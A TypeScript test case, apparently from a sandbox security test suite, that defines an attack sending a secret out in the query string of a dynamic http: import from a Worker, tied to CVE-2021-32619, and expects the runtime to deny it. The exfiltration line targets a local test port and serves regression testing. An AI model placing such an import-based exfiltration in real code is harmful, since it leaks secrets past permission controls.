import { type Attack, denied, js } from "../attack.ts";
import { bareHost } from "../controls/bare_host.ts";
import { canaryHit } from "../proofs.ts";

export default {
  name: "import_http_exfiltration",
  what:
    "Sends a secret out in the query of an http: import with a literal specifier; in a Worker " +
    "that is loaded whatever net and import say.",
  advisory: "CVE-2021-32619",
  module: (at) =>
    js`
    export default {
      async run() {
        return (await import("http://127.0.0.1:${at.tcpPort}/?secret")).default;
      },
    };`,
  ungated: true,
  expect: ({ tcpPort }) => denied("import", `127.0.0.1:${tcpPort}`),
  control: bareHost("a Worker without permissions as the only wall"),
  proof: canaryHit("tcp"),
} satisfies Attack;
